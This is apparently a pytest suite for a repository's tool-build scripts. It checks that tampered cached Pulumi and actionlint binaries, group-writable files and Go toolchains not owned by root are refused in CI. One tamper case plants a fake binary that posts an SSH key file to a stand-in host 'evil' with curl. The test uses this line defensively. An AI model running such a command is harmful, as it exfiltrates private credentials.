"""The runner trusts nothing it did not build (docs/safety.md, "What the runner trusts"): tools/build-engine.sh and
tools/install-actionlint.sh take a cached tool only when every file is the one built there (and the plugins the ones
this repository pins), refuse one that was changed, and in CI take neither an installed pulumi nor anything cached.

Each script runs from a copy of tools/ with a cache folder of the test's own and, first on PATH, a `go` that only
records how it was called and fails: nothing is built here."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.conftest import require

REPO = Path(__file__).resolve().parent.parent
PLUGINS = ("pulumi-resource-pulumi-python", "pulumi-language-python-exec")
FAKE_PULUMI = "#!/bin/sh\necho v3.274.1\n"
SYSTEM_PATH = "/usr/local/go/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


def pins_id(pins: Path) -> str:
    return hashlib.sha256((pins / "go.mod").read_bytes() + (pins / "go.sum").read_bytes()).hexdigest()[:16]


class Tools:
    def __init__(self, root: Path) -> None:
        self.project = root / "project"
        shutil.copytree(REPO / "tools", self.project / "tools")
        self.cache, self.bin, self.temp = root / "cache", root / "fakebin", root / "runner-temp"
        for folder in (self.cache, self.bin, self.temp):
            folder.mkdir()
        self.go_calls = root / "go-calls"
        # The `go` first on PATH: a developer's choice, or what an earlier job left on a runner.
        self.executable(self.bin / "go", self.fake_go("path"))
        # A Go toolchain as root installs it (its GOROOT, with bin/go in it), for the deploying runner's build:
        # SMTPS_GO names it, and it is checked as a system one is.
        self.goroot = root / "goroot"
        (self.goroot / "bin").mkdir(parents=True)
        self.system_go = self.goroot / "bin" / "go"
        self.executable(self.system_go, self.fake_go("system"))
        self.engine_dir = self.cache / f"pulumi-v3.274.1-{pins_id(REPO / 'tools' / 'engine')}"
        self.actionlint_dir = self.cache / f"actionlint-v1.7.12-{pins_id(REPO / 'tools' / 'actionlint')}"

    def fake_go(self, which: str) -> str:
        """A `go` that records who it is, how it was called and in what environment, and fails: nothing is built."""
        return (f"#!/bin/sh\necho \"{which}: $* GOMODCACHE=$GOMODCACHE GOCACHE=$GOCACHE GOENV=$GOENV "
                f"CGO_ENABLED=$CGO_ENABLED GOFLAGS=$GOFLAGS GOROOT=$GOROOT PATH=$PATH\" >> {self.go_calls}\n"
                "echo 'fake go: no build in a test' >&2\nexit 1\n")

    @staticmethod
    def executable(path: Path, text: str | bytes) -> None:
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        path.chmod(0o755)

    def plant(self, folder: Path, files: dict[str, str | bytes]) -> None:
        """A cache folder as a finished build leaves it: the files and their SHA256SUMS."""
        folder.mkdir(mode=0o700)
        for name, content in files.items():
            self.executable(folder / name, content)
        sums = "".join(f"{hashlib.sha256((folder / n).read_bytes()).hexdigest()}  {n}\n" for n in sorted(files))
        (folder / "SHA256SUMS").write_text(sums)

    def plant_engine(self) -> None:
        real = {}
        for name in PLUGINS:
            source = REPO / ".tools" / "bin" / name
            require(source.exists(), f"{source} is missing: run `make tools`")
            real[name] = source.read_bytes()
        self.plant(self.engine_dir, {"pulumi": FAKE_PULUMI, **real})

    def run(self, script: str, **env: str) -> subprocess.CompletedProcess[str]:
        dropped = ("CI", "GITHUB_ACTIONS", "SMTPS_TOOLS_FRESH", "RUNNER_TEMP", "GOFLAGS", "SMTPS_GO", "GOROOT")
        base = {k: v for k, v in os.environ.items() if k not in dropped}
        return subprocess.run(["bash", str(self.project / "tools" / script)], capture_output=True, text=True,
                              timeout=120, env={**base, "PATH": f"{self.bin}:{os.environ['PATH']}",
                                                "SMTPS_ENGINE_CACHE": str(self.cache),
                                                "RUNNER_TEMP": str(self.temp), **env})

    def linked(self, name: str) -> Path | None:
        link = self.project / ".tools" / "bin" / name
        return Path(os.readlink(link)) if link.is_symlink() else None


@pytest.fixture
def tools(tmp_path: Path) -> Tools:
    return Tools(tmp_path)


def test_a_cached_engine_that_verifies_is_taken_without_building(tools: Tools):
    tools.plant_engine()
    done = tools.run("build-engine.sh")
    assert done.returncode == 0, done.stderr
    assert "engine ready" in done.stderr and "pulumi v3.274.1" in done.stderr
    assert tools.linked("pulumi") == tools.engine_dir / "pulumi"
    assert {tools.linked(name) for name in PLUGINS} == {tools.engine_dir / name for name in PLUGINS}
    assert not tools.go_calls.exists()


@pytest.mark.parametrize("tamper", ["binary replaced", "file added", "group-writable", "sums rewritten for a plugin",
                                    "symlink"])
def test_a_tampered_cached_engine_is_refused(tools: Tools, tamper: str):
    tools.plant_engine()
    folder = tools.engine_dir
    if tamper == "binary replaced":
        tools.executable(folder / "pulumi", "#!/bin/sh\necho v3.274.1\ncurl -d @\"$SMTPS_SSH_KEY_FILE\" evil\n")
    elif tamper == "file added":
        tools.executable(folder / "pulumi-resource-command", "#!/bin/sh\n")
    elif tamper == "group-writable":
        (folder / "pulumi").chmod(0o775)
    elif tamper == "sums rewritten for a plugin":
        # Whoever can write the cache can rewrite its SHA256SUMS: the plugins must still be the ones the repo pins.
        plugin = folder / PLUGINS[0]
        plugin.write_bytes(plugin.read_bytes() + b"\nimport os  # planted\n")
        sums = (folder / "SHA256SUMS").read_text().splitlines()
        digest = hashlib.sha256(plugin.read_bytes()).hexdigest()
        (folder / "SHA256SUMS").write_text("".join(f"{digest}  {PLUGINS[0]}\n" if line.endswith(f"  {PLUGINS[0]}")
                                                   else f"{line}\n" for line in sums))
    elif tamper == "symlink":
        (folder / "pulumi").unlink()
        (folder / "pulumi").symlink_to("/bin/true")
    refused = tools.run("build-engine.sh")
    assert refused.returncode == 1, refused.stderr
    said = refused.stderr
    assert f"refusing {folder}" in said or f"refusing the cached Pulumi engine in {folder}" in said, said
    expected = {"binary replaced": "pulumi: FAILED", "file added": "holds other files than its SHA256SUMS lists",
                "group-writable": "writable by group or others (mode 775)",
                "sums rewritten for a plugin": "plugins are not the ones tools/engine/plugins.sha256 pins",
                "symlink": "is a symlink"}[tamper]
    assert expected in said, said
    assert tools.linked("pulumi") is None and not tools.go_calls.exists()


def test_in_ci_neither_an_installed_pulumi_nor_the_cache_is_taken(tools: Tools):
    tools.plant_engine()  # a cache that verifies
    installed = tools.bin / "installed"
    installed.mkdir()
    tools.executable(installed / "pulumi", "#!/bin/sh\necho v3.300.0\n")
    tools.executable(installed / "pulumi-resource-pulumi-python", "#!/bin/sh\n")
    path = f"{tools.bin}:{installed}:{os.environ['PATH']}"
    outside = tools.run("build-engine.sh", PATH=path)
    assert outside.returncode == 0 and tools.linked("pulumi") == installed / "pulumi"  # a developer's own choice
    (tools.project / ".tools" / "bin" / "pulumi").unlink()
    # A test-only CI run (.ci/run: CI=true, no key) is a developer's machine here: the installed one, or the cache.
    tests_only = tools.run("build-engine.sh", PATH=path, CI="true")
    assert tests_only.returncode == 0 and tools.linked("pulumi") == installed / "pulumi", tests_only.stderr
    (tools.project / ".tools" / "bin" / "pulumi").unlink()

    require(os.geteuid() == 0, "the deploying runner's build takes only a root-owned go: run as root")
    for variable in ("GITHUB_ACTIONS", "SMTPS_TOOLS_FRESH"):
        ci = tools.run("build-engine.sh", PATH=path, SMTPS_GO=str(tools.system_go), **{variable: "true"})
        assert ci.returncode == 1, ci.stderr
        # PATH is the system's folders only: the installed pulumi is not even seen.
        assert str(installed) not in ci.stderr and tools.linked("pulumi") is None
        assert "building the Pulumi CLI failed" in ci.stderr
        assert f"CI: building with {tools.system_go} (GOROOT {tools.goroot}, root's alone)" in ci.stderr
    # It went to build, with the root-owned go (never the one first on PATH), on the system's PATH, in a folder of
    # its own under RUNNER_TEMP, with private Go caches, no go env file, no cgo, and only the modules go.sum pins.
    calls = tools.go_calls.read_text().splitlines()
    assert len(calls) == 2 and all(call.startswith("system: build -trimpath") for call in calls), calls
    for call in calls:
        assert f"GOMODCACHE={tools.temp}/smtps-tools." in call and f"GOCACHE={tools.temp}/smtps-tools." in call
        assert "GOENV=off CGO_ENABLED=0 GOFLAGS=-mod=readonly -modcacherw" in call
        assert call.endswith(f" GOROOT={tools.goroot} PATH={SYSTEM_PATH}")
    # What it left is removed: only the emptied private folders of the two runs.
    assert [p.name for p in tools.temp.glob("smtps-tools.*/*")] == []


def test_actionlint_verifies_is_refused_when_changed_and_is_built_anew_in_ci(tools: Tools):
    tools.plant(tools.actionlint_dir, {"actionlint": "#!/bin/sh\nexit 0\n"})
    assert tools.run("install-actionlint.sh").returncode == 0
    assert tools.linked("actionlint") == tools.actionlint_dir / "actionlint"
    (tools.project / ".tools" / "bin" / "actionlint").unlink()

    require(os.geteuid() == 0, "the deploying runner's build takes only a root-owned go: run as root")
    ci = tools.run("install-actionlint.sh", GITHUB_ACTIONS="true", SMTPS_GO=str(tools.system_go))
    assert ci.returncode == 1 and "building actionlint failed" in ci.stderr, ci.stderr
    calls = tools.go_calls.read_text()
    assert tools.linked("actionlint") is None and calls.startswith("system: build ") and "GOENV=off" in calls

    tools.executable(tools.actionlint_dir / "actionlint", "#!/bin/sh\nexit 0  # and something else\n")
    refused = tools.run("install-actionlint.sh")
    assert refused.returncode == 1 and "actionlint: FAILED" in refused.stderr, refused.stderr
    assert "refusing the cached actionlint" in refused.stderr and tools.linked("actionlint") is None


def test_an_unfinished_build_is_removed_and_built_again(tools: Tools):
    tools.actionlint_dir.mkdir()
    (tools.actionlint_dir / "actionlint").write_text("half")
    again = tools.run("install-actionlint.sh")
    assert "an unfinished build" in again.stderr and not tools.actionlint_dir.exists()
    assert again.returncode == 1 and tools.go_calls.read_text().startswith("path: build ")  # the fake go fails


def test_in_ci_a_go_first_on_path_is_never_run_and_only_a_root_owned_toolchain_is(tools: Tools):
    """What an earlier job can leave on a runner: a `go` first on the user's PATH, or one (or its GOROOT) that is
    not root's alone. The deploying runner's build runs none of them; it says which and why."""
    require(os.geteuid() == 0, "the deploying runner's build takes only a root-owned go: run as root")
    bad = {
        "owned by another user": lambda: os.chown(tools.system_go, 65534, -1),
        "group-writable go": lambda: tools.system_go.chmod(0o775),
        "a file of GOROOT writable by others": lambda: (tools.goroot / "VERSION").touch(mode=0o666) or
        (tools.goroot / "VERSION").chmod(0o666),
        "GOROOT group-writable": lambda: tools.goroot.chmod(0o775),
        "a folder above it writable by others": lambda: tools.goroot.parent.chmod(0o777),
    }
    for case, spoil in bad.items():
        tools.go_calls.unlink(missing_ok=True)
        spoil()
        try:
            ci = tools.run("install-actionlint.sh", GITHUB_ACTIONS="true", SMTPS_GO=str(tools.system_go))
        finally:
            os.chown(tools.system_go, 0, -1)
            tools.system_go.chmod(0o755)
            (tools.goroot / "VERSION").unlink(missing_ok=True)
            tools.goroot.chmod(0o755)
            tools.goroot.parent.chmod(0o700)
        assert ci.returncode == 1, (case, ci.stderr)
        assert f"CI: refusing the Go toolchain {tools.system_go}" in ci.stderr, (case, ci.stderr)
        assert "not root's alone" in ci.stderr and not tools.go_calls.exists(), (case, ci.stderr)
    relative = tools.run("install-actionlint.sh", GITHUB_ACTIONS="true", SMTPS_GO="go")
    assert "CI: SMTPS_GO=go is not an absolute path: refused" in relative.stderr and not tools.go_calls.exists()
    # Unset, the go is the system's: the one first on the user's PATH is not asked, even for its version.
    system = tools.run("install-actionlint.sh", GITHUB_ACTIONS="true", SMTPS_GO="/nonexistent/bin/go")
    assert "CI: /nonexistent/bin/go cannot be resolved: refused" in system.stderr and not tools.go_calls.exists()
    probe = subprocess.run(["bash", "-c", f". {tools.project}/tools/lib.sh && command -v go; echo \"$PATH\""],
                           capture_output=True, text=True, env={"PATH": f"{tools.bin}:/usr/bin:/bin",
                                                                "GITHUB_ACTIONS": "true"})
    assert str(tools.bin) not in probe.stdout and probe.stdout.splitlines()[-1] == SYSTEM_PATH, probe.stdout


@pytest.mark.parametrize(("tool", "script", "variable", "module"), [
    ("engine", "build-engine.sh", "PULUMI_VERSION", "github.com/pulumi/pulumi/pkg/v3"),
    ("actionlint", "install-actionlint.sh", "VERSION", "github.com/rhysd/actionlint"),
])
def test_the_version_a_script_names_is_the_one_its_pins_require(tool, script, variable, module):
    """A version changed in the script alone would build the old pins under the new name."""
    named = re.search(rf"^{variable}=(\S+)$", (REPO / "tools" / script).read_text(), re.M).group(1)
    pins = REPO / "tools" / tool
    assert re.search(rf"^require {re.escape(module)} {re.escape(named)}$", (pins / "go.mod").read_text(), re.M)
    assert f"{module} {named} h1:" in (pins / "go.sum").read_text()


def test_the_plugins_pinned_are_the_two_the_engine_needs():
    pinned = (REPO / "tools" / "engine" / "plugins.sha256").read_text().split()
    assert pinned[1::2] == list(PLUGINS) and all(re.fullmatch(r"[0-9a-f]{64}", h) for h in pinned[0::2])
